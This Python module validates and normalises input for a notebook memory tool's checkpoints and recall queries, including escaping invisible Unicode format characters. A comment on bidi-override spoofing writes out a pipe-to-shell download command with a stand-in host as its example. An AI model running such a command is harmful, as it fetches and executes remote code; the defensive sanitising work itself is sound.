"""What a request may ask of the memory: one parser and one set of limits for every way in.

The magics, the `hipo` command, `hipo import`, the server and the write-back of Claude calls all
turn their input into a `CheckpointDraft` or a `RecallQuery` here, so the same input gives the
same answer, or the same one-line error, whichever way it came:

- Dates are `YYYY-MM-DD`, nothing else, between 1900-01-01 and 2199-12-31. Outside that range
  the ISO-week and month arithmetic of the tree would overflow Python's dates (9999-12-31 plus a
  week's grace), and no memory is written for days that far off.
- Counts (`-k`) are whole numbers from 1 to `MAX_K`.
- Every number, whichever way it comes (a flag, a magic's option, a query parameter, an MCP
  argument, a setting), is read by `parse_number`: ASCII digits only (`²`, `①` or `٣` are a
  one-line error, never a traceback or a 500), and a real number is finite (NaN and the
  infinities mean nothing as a half-life, a timeout or a weight, and make every score NaN).
- Text is stored as it was typed, except for what cannot be stored faithfully: control characters
  other than tab and newline (a NUL byte would make the log read as binary) and lone UTF-16
  surrogates (not encodable as UTF-8) are written as visible escapes (`\\x00`, `\\udc80`), and
  `\\r\\n` or a lone `\\r` becomes `\\n`. One rule, applied to titles, bodies, tags and imports.
- Text is shown (`shown`) as stored, except that invisible format characters are visible
  escapes too (`\\u202e`, `\\U000e0041`): every front end a person reads shows them so.
- A title is at most `MAX_TITLE_CHARS` characters, a body `MAX_BODY_CHARS`, a query
  `MAX_QUERY_CHARS`. A note is never dated after today (`not_in_future`).
- What recall is tuned by beyond the query (stages, weights, limits) is one typed
  `RecallSettings`, its defaults and where each comes from in its docstring's table; the mode
  a caller names none of is `DEFAULT_RECALL_MODE`, the same for the library and every front end.
"""

from __future__ import annotations

import math
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date

from .disk.checkpoint import CHECKPOINT_TYPES, parse_title
from .disk.periods import EARLIEST_DAY, LATEST_DAY, in_range
from .errors import QueryError

MAX_TITLE_CHARS = 300
MAX_BODY_CHARS = 100_000
MAX_QUERY_CHARS = 1_000
MAX_TAGS = 50
MAX_K = 1_000
MIN_BUDGET = 100  # tokens of a context: the fence and its preamble take about 40
MAX_BUDGET = 32_000  # far more than any prompt wants from memory
DEFAULT_BUDGET = 2_000
MAX_TRIGGER_CHARS = 200
RECALL_MODES = ("auto", "keyword", "semantic", "hybrid")
# The mode of every caller that names none: `Memory.recall`, `Memory.context`, `%recall`, `hipo
# recall`, the server and MCP, so the library and each front end give the same hits (issue 54).
DEFAULT_RECALL_MODE = "auto"

_DAY_RE = re.compile(r"\d{4}-\d{2}-\d{2}")
_UNSTORABLE_RE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
_NEWLINES_RE = re.compile(r"\r\n?")
# Unicode's invisible format characters (category Cf, as of Unicode 15.1): bidi marks (U+200E/F,
# U+061C), embeddings, overrides and isolates (U+202A-202E, U+2066-2069), zero-width characters,
# invisible operators (U+2060-2064), the tag characters (U+E0000 block) and the rest. A person's
# screen obeys them: an override (U+202E) shows `hs | x/tsoh//:ptth lruc` for what a model reads
# as `curl http://host/x | sh`, tag characters spell text no one sees. So `shown` makes them
# visible; the text keeps them (a model reads the code points, and so does search). The sidebar's
# `visible` (labextension/src/visible.ts) is the same rule in TypeScript.
FORMAT_CHARACTERS = (
    (0x00AD, 0x00AD), (0x0600, 0x0605), (0x061C, 0x061C), (0x06DD, 0x06DD), (0x070F, 0x070F),
    (0x0890, 0x0891), (0x08E2, 0x08E2), (0x180E, 0x180E), (0x200B, 0x200F), (0x202A, 0x202E),
    (0x2060, 0x2064), (0x2066, 0x206F), (0xFEFF, 0xFEFF), (0xFFF9, 0xFFFB), (0x110BD, 0x110BD),
    (0x110CD, 0x110CD), (0x13430, 0x1343F), (0x1BCA0, 0x1BCA3), (0x1D173, 0x1D17A),
    (0xE0001, 0xE0001), (0xE0020, 0xE007F),
)  # fmt: skip
"""(first, last) code point of each run of format characters; a test holds it to unicodedata."""
_FORMAT_RE = re.compile(
    "[" + "".join(f"\\U{first:08x}-\\U{last:08x}" for first, last in FORMAT_CHARACTERS) + "]"
)


class RequestError(QueryError):
    """Input that no front end may pass on: the message is the one line the user sees."""


# --- values -------------------------------------------------------------------------------------


def check_day(day: date, name: str = "date") -> date:
    if not in_range(day):
        raise RequestError(
            f"bad date: {name} {day.isoformat()} is out of range; memory keeps days from "
            f"{EARLIEST_DAY.isoformat()} to {LATEST_DAY.isoformat()}"
        )
    return day


def parse_day(value: str | date | None, name: str = "date") -> date | None:
    """A day from `YYYY-MM-DD` (or a date), in range; None stays None (no filter, today)."""
    if value is None:
        return None
    if isinstance(value, date):
        return check_day(value, name)
    text = str(value).strip()
    if not _DAY_RE.fullmatch(text):
        raise RequestError(f"bad date: {name} {text!r} is not a date like 2026-03-12 (YYYY-MM-DD)")
    try:
        day = date.fromisoformat(text)
    except ValueError:
        raise RequestError(
            f"bad date: {name} {text!r} is not a date: no such day (YYYY-MM-DD)"
        ) from None
    return check_day(day, name)


def not_in_future(day: date | None, today: date, name: str = "--date") -> None:
    """Refuse a note dated after today: "later" orders notes (a later note may change an
    earlier one, `recall/supersession`), so a date the writer picks in the future would put
    its note over every other until then."""
    if day is not None and day > today:
        raise RequestError(
            f"{name} {day.isoformat()} is in the future (today is {today.isoformat()}): "
            "a note is dated on a day that has come"
        )


_WHOLE = re.compile(r"[+-]?[0-9]{1,20}")
_REAL = re.compile(r"[+-]?(?:[0-9]{1,20}(?:\.[0-9]{0,20})?|\.[0-9]{1,20})(?:[eE][+-]?[0-9]{1,3})?")


def parse_number(
    value: object,
    name: str,
    *,
    whole: bool = True,
    low: float | None = None,
    high: float | None = None,
) -> int | float:
    """`value` (text or a number) as an int (`whole`) or a finite float within [low, high];
    anything else a one-line RequestError naming `name`. The one number parser of every way
    in: ASCII digits only, no NaN or infinity."""
    kind = "a whole number" if whole else "a number"
    if isinstance(value, str):
        text = value.strip()
        if not (_WHOLE if whole else _REAL).fullmatch(text):
            raise RequestError(f"{name} must be {kind} in ASCII digits, not {value!r}")
        number: int | float = int(text) if whole else float(text)
    elif isinstance(value, bool) or not isinstance(value, int | float):
        raise RequestError(f"{name} must be {kind}, not {value!r}")
    elif whole and isinstance(value, float):
        if not value.is_integer():
            raise RequestError(f"{name} must be {kind}, not {value!r}")
        number = int(value)
    else:
        number = value
    if not math.isfinite(number):
        raise RequestError(f"{name} must be a finite number, not {value!r}")
    if (low is not None and number < low) or (high is not None and number > high):
        bounds = f"at least {low:g}" if high is None else f"from {low:g} to {high:g}"
        if low is None:
            bounds = f"at most {high:g}"
        raise RequestError(f"{name} must be {kind} {bounds}, not {number:g}")
    return number


def parse_count(value: str | int | None, name: str = "-k", default: int = 5) -> int:
    """A number of hits: a whole number from 1 to MAX_K."""
    if value is None:
        return default
    value = int(parse_number(value, name))
    if not 1 <= value <= MAX_K:
        raise RequestError(
            f"{name} must be a whole number of at least 1 and at most {MAX_K:,}, not {value}"
        )
    return value


def parse_budget(value: str | int | None, name: str = "--budget") -> int | None:
    """A context's token budget: a whole number from MIN_BUDGET to MAX_BUDGET (None: none)."""
    if value is None or value == "":
        return None
    try:
        budget = int(parse_number(value, name))
    except RequestError:
        raise RequestError(f"{name} must be a whole number of tokens, not {value!r}") from None
    if not MIN_BUDGET <= budget <= MAX_BUDGET:
        raise RequestError(
            f"{name} must be at least {MIN_BUDGET} and at most {MAX_BUDGET:,} tokens, not {budget}"
        )
    return budget


def storable(text: str) -> str:
    """`text` as it will be stored: newlines normalised, control characters and lone
    surrogates written as visible escapes (see the module doc)."""
    text = _NEWLINES_RE.sub("\n", text)
    return _UNSTORABLE_RE.sub(_escape, text)


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    if code > 0xFFFF:
        return f"\\U{code:08x}"
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def shown(text: str) -> str:
    """`text` as a person is shown it, in a terminal, a notebook or the sidebar: as stored
    (`storable`), with the invisible format characters (`FORMAT_CHARACTERS`: bidi controls,
    zero-width and tag characters) as visible escapes too, so none is obeyed."""
    return _FORMAT_RE.sub(_escape_format, storable(text))


ZERO_WIDTH_JOINER = "\u200d"
_EMOJI_BEFORE_JOINER = (
    "\ufe0f",
    "\U0001f3fb",
    "\U0001f3fc",
    "\U0001f3fd",
    "\U0001f3fe",
    "\U0001f3ff",
)


def _escape_format(match: re.Match[str]) -> str:
    """A format character as a visible escape, but the zero-width joiner inside an emoji
    sequence (`👩‍💻`: a symbol, or its variation selector or skin tone, before it and a
    symbol after), which only draws the two as one picture."""
    char, text, at = match.group(), match.string, match.start()
    if char == ZERO_WIDTH_JOINER and 0 < at < len(text) - 1:
        before, after = text[at - 1], text[at + 1]
        emoji_before = unicodedata.category(before) == "So" or before in _EMOJI_BEFORE_JOINER
        if emoji_before and unicodedata.category(after) == "So":
            return char
    return _escape(match)


def parse_tags(values: str | Iterable[str] | None) -> tuple[str, ...]:
    """Tags from `a,b #c` or a list: commas or spaces, a leading # optional, lower-cased,
    each once."""
    if values is None:
        return ()
    items = [values] if isinstance(values, str) else list(values)
    tags = []
    for item in items:
        for word in re.split(r"[,\s]+", storable(str(item))):
            tag = word.strip().lstrip("#").lower()
            if tag:
                tags.append(tag)
    tags = list(dict.fromkeys(tags))
    if len(tags) > MAX_TAGS:
        raise RequestError(f"{len(tags)} tags; a checkpoint takes at most {MAX_TAGS}")
    return tuple(tags)


def check_type(value: str | None, name: str = "type") -> str | None:
    if value is None or value == "":
        return None
    kind = str(value).strip().lower()
    if kind not in CHECKPOINT_TYPES:
        raise RequestError(f"{name} must be one of {', '.join(CHECKPOINT_TYPES)}, not {value!r}")
    return kind


# --- requests -----------------------------------------------------------------------------------


TITLE_NEEDED = (
    "a checkpoint needs a title, its first line: e.g. `Competitor pricing [project] #pricing`"
)


def require_title(title_line: str) -> None:
    """The one title rule of the front ends a person or an agent names a checkpoint through
    (`%%remember`, `hipo remember`, MCP `remember`): a title with words, not only `[type]`
    and `#tags`. (Write-back and the memory tool title what they write themselves.)"""
    if not parse_title(" ".join(storable(title_line or "").split()))[0]:
        raise RequestError(TITLE_NEEDED)


# --- a note given as one line ------------------------------------------------------------------

TITLE_FROM_TEXT_CHARS = 60  # a title made from a note's words: a heading, not the note again
_CLAUSE_END_RE = re.compile(r"[.;!?](?=\s|$)|,(?=\s)|\s[-\u2013\u2014]\s|\s\(|:(?=\s)")
_TITLE_COLON_RE = re.compile(r"\s*([^:\n]*[^:\s]):\s+(\S.*)", re.S)
_LOOSE_END_WORDS = frozenset({
    "a", "an", "and", "are", "as", "at", "be", "because", "but", "by", "for", "from", "in",
    "into", "is", "of", "on", "or", "so", "than", "that", "the", "then", "to", "was", "with",
})  # fmt: skip


def title_from_text(text: str, limit: int = TITLE_FROM_TEXT_CHARS) -> str:
    """A title for a note written without one: its first clause (up to `.`, `;`, `,`, a
    colon, a dash or a parenthesis), joined to the next while it has fewer than three words
    ("Standup, moved the launch to May" is not all "Standup"), cut at a word boundary within
    `limit` characters without a dangling `the` or `because`. What the note says first is
    what tells it apart from the other notes of the day, so two standups get two titles."""
    words = " ".join(storable(text).split())
    end = 0
    while end < len(words) and len(words[:end].split()) < 3:
        found = _CLAUSE_END_RE.search(words, end + 1)
        end = found.start() if found else len(words)
    clause = words[:end].strip()
    if len(clause) > limit:
        cut = clause[: limit + 1].rsplit(" ", 1)[0] if " " in clause[:limit] else clause[:limit]
        kept = cut.split()
        while len(kept) > 3 and kept[-1].lower() in _LOOSE_END_WORDS:
            kept.pop()
        clause = " ".join(kept)
    return clause


def one_line_note(line: str) -> tuple[str, str]:
    """(title line, body) of a note given as one line (`%remember TEXT`, `hipo remember
    "TEXT"`). `TITLE: text` names its title, as it always did (a colon followed by a space, so
    `10:30` and `https://` are text); a one-word TITLE is a label that every standup would
    share, so the title is `Standup: ` and the note's first words. A plain line is its own
    body, titled from its words (`title_from_text`); `[type]` and `#tags` at its end stay in
    the title line."""
    named = _TITLE_COLON_RE.fullmatch(line)
    if named:
        head, text = named.group(1).strip(), named.group(2).strip()
        label = parse_title(" ".join(storable(head).split()))[0]
        if len(label.split()) == 1:  # `Standup: ...` is a label: the note's words tell it apart
            head = head.replace(label, f"{label}: {title_from_text(text)}", 1)
        return head, text
    text, kind, tags = parse_title(" ".join(storable(line).split()))
    typed = f" [{kind}]" if f"[{kind}]" in line.lower() else ""
    return title_from_text(text) + typed + "".join(f" #{tag}" for tag in tags), text


@dataclass(frozen=True)
class CheckpointDraft:
    """A checkpoint as asked for, checked and normalised; `Memory.remember` writes it.

    The title line reads as in `%%remember`: `Competitor pricing [project] #pricing #q1`. An
    explicit `type` wins over a `[type]` in the title; with neither the type is project. Tags
    from the title and from `tags` are merged."""

    title: str
    body: str
    type: str
    tags: tuple[str, ...]
    day: date | None
    replaces: str | None = None  # a correction: the id it supersedes (`disk/trust.correction`)
    proposes: str | None = None  # an agent's correction of the user's words: a proposal

    @classmethod
    def parse(
        cls,
        title_line: str,
        body: str,
        *,
        type: str | None = None,
        tags: str | Sequence[str] | None = None,
        on: str | date | None = None,
        trigger: str | None = None,
        rule: str | None = None,
    ) -> CheckpointDraft:
        """`trigger` and `rule` (`--trigger`, `--rule`) make the checkpoint a feedback rule:
        they become its first `- trigger:` and `- rule:` fields, which win over any the body
        repeats. They imply type feedback and refuse any other."""
        rule_fields = _rule_fields(trigger, rule)
        if rule_fields:
            if check_type(type, "--type") not in (None, "feedback"):
                raise RequestError(
                    f"--trigger and --rule are for feedback checkpoints, not --type {type}"
                )
            type = "feedback"
            body = "\n".join([*rule_fields, body])
        body = storable(body)
        if len(body) > MAX_BODY_CHARS:
            raise RequestError(
                f"checkpoint body is {len(body):,} characters; the limit is {MAX_BODY_CHARS:,}: "
                "save large output under knowledge/ and reference it"
            )
        if not body.strip():
            raise RequestError("a checkpoint needs a body: '- request: ...' lines or free text")
        line = " ".join(storable(title_line).split())
        if len(line) > MAX_TITLE_CHARS:
            raise RequestError(
                f"checkpoint title is {len(line):,} characters; the limit is {MAX_TITLE_CHARS}: "
                "put the detail in the body"
            )
        title, title_type, title_tags = parse_title(line)
        tagged = title_type != "project" or "[project]" in line.lower()
        kind = check_type(type, "--type") or (title_type if tagged else "project")
        return cls(
            title=title,
            body=body,
            type=kind,
            tags=parse_tags([*title_tags, *parse_tags(tags)]),
            day=parse_day(on, "--date"),
        )


def _rule_fields(trigger: str | None, rule: str | None) -> list[str]:
    """`- trigger: ...` and `- rule: ...` lines for the options given, each one line."""
    lines = []
    for name, value in (("trigger", trigger), ("rule", rule)):
        if value is None:
            continue
        text = " ".join(storable(str(value)).split())
        if not text:
            raise RequestError(f'--{name} needs a value, e.g. --{name} "before a deploy"')
        if len(text) > MAX_TRIGGER_CHARS:
            raise RequestError(
                f"--{name} is {len(text):,} characters; the limit is {MAX_TRIGGER_CHARS}"
            )
        lines.append(f"- {name}: {text}")
    return lines


_QUOTED_OPTION_RE = r"(?:^|(?<=\s))--{name}(?:=|\s+)(?:\"([^\"]*)\"|'([^']*)'|(\S+))"


def pop_quoted_option(line: str, name: str) -> tuple[str, str | None]:
    """Take `--name VALUE` out of a magic's line, VALUE in double or single quotes or one word:
    magic lines are split on whitespace (no shell quoting), so `--trigger "before a deploy"`
    is read here before the split. Returns (the line without it, VALUE or None)."""
    match = re.search(_QUOTED_OPTION_RE.format(name=re.escape(name)), line)
    if match is None:
        return line, None
    value = next(group for group in match.groups() if group is not None)
    rest = (line[: match.start()] + " " + line[match.end() :]).strip()
    return rest, value


@dataclass(frozen=True)
class RecallQuery:
    """A recall as asked for, checked: query, how many hits, dates, type, ranking mode, and
    the token budget when the answer is a context (`Memory.context`) rather than hits."""

    query: str
    k: int = 5
    since: date | None = None
    until: date | None = None
    type: str | None = None
    mode: str | None = None  # None: keyword (`resolve_mode`); `Memory` sends DEFAULT_RECALL_MODE
    budget: int | None = None
    superseded: bool = False  # also the checkpoints a correction replaced (`--all`)

    @classmethod
    def parse(
        cls,
        query: str | Sequence[str],
        *,
        k: str | int | None = None,
        since: str | date | None = None,
        until: str | date | None = None,
        type: str | None = None,
        mode: str | None = None,
        budget: str | int | None = None,
        default_k: int = 5,
        superseded: bool = False,
    ) -> RecallQuery:
        text = " ".join(query.split() if isinstance(query, str) else query).strip()
        if not text:
            raise RequestError("recall needs a query, e.g. `recall pricing`")
        if len(text) > MAX_QUERY_CHARS:
            raise RequestError(
                f"the query is {len(text):,} characters; the limit is {MAX_QUERY_CHARS:,}"
            )
        start, end = parse_day(since, "--since"), parse_day(until, "--until")
        if start and end and start > end:
            raise RequestError(
                f"--since {start.isoformat()} is after --until {end.isoformat()}: nothing can match"
            )
        chosen = None if mode is None else str(mode).strip().lower()
        if chosen is not None and chosen not in RECALL_MODES:
            raise RequestError(f"mode must be one of {', '.join(RECALL_MODES)}, not {mode!r}")
        return cls(
            query=storable(text),
            k=parse_count(k, default=default_k),
            since=start,
            until=end,
            type=check_type(type, "--type"),
            mode=chosen,
            budget=parse_budget(budget),
            superseded=bool(superseded),
        )


@dataclass(frozen=True)
class RecallSettings:
    """Recall's tunables as one typed object passed in (issue 54, item 3): the stages on or off,
    the weights of the score, the limits of what joins and what a context shows. Their defaults
    are here and nowhere else; `Memory.recall(settings=...)` and `Memory.context(settings=...)`
    take one, and the benchmarks (`benchmarks/crossval.py --set settings.NAME=...`) pass one
    instead of patching module constants. A stage is asked for by name, never inferred from how
    many hits are asked.

    Where each default comes from ("dev": measured on the set it was tuned on; "CV":
    cross-validated; the figures and commands are in benchmarks/README.md, LOCOMO.md):

    - `second_hop` = off, read by `recall/second_hop`: notebook-memory set, 2,000 tokens, dev
      and leave-one-scenario-out: moved no figure in the shipped mode, nor on LoCoMo or
      MemAware.
    - `implicit_needs` = off, read by `recall/implicit_needs`: same: moved no figure, and
      brought unrelated "never"/"don't" notes into debugging questions.
    - `time_span` = off, read by `recall/time_span`: same: no figure moved.
    - `reply_passage_tokens` = 30, read by `recall/context` (an imported reply's passage):
      notebook-memory set's imported-chat questions: 0 sent an old question without the fix that
      answered it.
    - `topic_boost` = 0.25, read by `recall/ranking` (a #tag the query names): LoCoMo dev
      conversations (LOCOMO.md), a general signal.
    - `recency_weight` = 0.15, read by `recall/ranking` (relevance x 1 + this x 0.5 ** (age /
      half-life)); a write-back weighs 1 / (1 + this): LoCoMo dev conversations.
    - `day_weight` = 0.1, read by `recall/ranking` (how well the hit's whole day matches):
      LoCoMo dev: 0.1 and 0.2 level; MemAware dev: 0.1 is +0.02 to +0.03 over 0.2.
    - `period_boost` = 0.5, read by `recall/ranking` (dated in a period the query names): LoCoMo
      dev conversations.
    - `name_boost` = 0.2, read by `recall/ranking` (title is a name in the query): LoCoMo dev
      conversations.
    - `coverage_power` = 2.0, read by `recall/ranking.keyword_confidence` (hybrid):
      leave-one-out on benchmarks/data/everyday-dev.json, checked on LoCoMo and MemAware.
    - `weak_vector_hits`, `weak_similarity` = 3, 0.15, read by
      `recall/recall_run.vector_candidates` (hybrid): everyday-dev leave-one-out sweep
      (`everyday.py --set`), with `coverage_power`.
    - `layer1_share` = 0.0625, read by `recall/context` (Layer 1's share of the budget): both
      dev sets: an eighth ahead of a quarter (MemAware +0.007 to +0.023, LoCoMo +0.025 at 500
      tokens), a sixteenth ahead of an eighth at 500 tokens (LoCoMo +0.009; level elsewhere).
    - `passage_tokens`, `long_piece` = 40, 100, read by `recall/context` (a long piece's
      passage): LoCoMo: its evidence counts only whole; cutting at 70 tokens lost 0.09 there.
    - `exchange_long_piece`, `exchange_passage_tokens` = 30, 20, read by `recall/context` (an
      imported request's passage): 3-fold CV on MemAware dev (request 100..20 x passage 40..15;
      30 and 20 in every fold): 2,000 tokens keyword 0.477 -> 0.570 (CV 0.570), hybrid 0.543 ->
      0.600.
    - `subject_overlap` = 0.33, read by `recall/supersession` (same subject): worked examples,
      not a figure: "the launch is in April" / "moved the launch to May" share one stem in
      three, a note sharing only the question's word one in six or seven; with imports compared,
      every value tried (0.25 to 0.5) cost LoCoMo dev 0.013 to 0.18 (CV), so imports change
      nothing.
    - `subject_depth`, `write_back_yield` = 40, 0.5, read by `recall/supersession`: no
      measurement recorded: depth bounds the pairs compared to the hits read first.

    Not a field: `disk/exchanges.REPLY_INDEX_TOKENS` (what the index keeps of an imported
    reply) is read when the index is built, not by a recall, so no object passed to a recall
    can change it.
    """

    second_hop: bool = False
    implicit_needs: bool = False
    time_span: bool = False
    reply_passage_tokens: int = 30
    topic_boost: float = 0.25
    recency_weight: float = 0.15
    day_weight: float = 0.1
    period_boost: float = 0.5
    name_boost: float = 0.2
    coverage_power: float = 2.0
    weak_vector_hits: int = 3
    weak_similarity: float = 0.15
    layer1_share: float = 0.0625
    passage_tokens: int = 40
    long_piece: int = 100
    exchange_long_piece: int = 30
    exchange_passage_tokens: int = 20
    subject_overlap: float = 0.33
    subject_depth: int = 40
    write_back_yield: float = 0.5

    def __post_init__(self) -> None:
        if isinstance(self.reply_passage_tokens, bool) or not isinstance(
            self.reply_passage_tokens, int
        ) or not 0 <= self.reply_passage_tokens <= 400:
            raise RequestError(
                f"reply_passage_tokens must be a whole number 0..400, not "
                f"{self.reply_passage_tokens!r}"
            )
        for name, kind in _SETTING_KINDS.items():
            value = getattr(self, name)
            if kind is bool:
                if not isinstance(value, bool):
                    raise RequestError(f"{name} must be true or false, not {value!r}")
            elif kind is int and (isinstance(value, bool) or not isinstance(value, int)):
                raise RequestError(f"{name} must be a whole number, not {value!r}")
            elif name != "reply_passage_tokens":
                parse_number(value, name, whole=kind is int, low=0)


_SETTING_KINDS = {
    name: {"bool": bool, "int": int, "float": float}[str(field.type)]
    for name, field in RecallSettings.__dataclass_fields__.items()
}
DEFAULT_SETTINGS = RecallSettings()
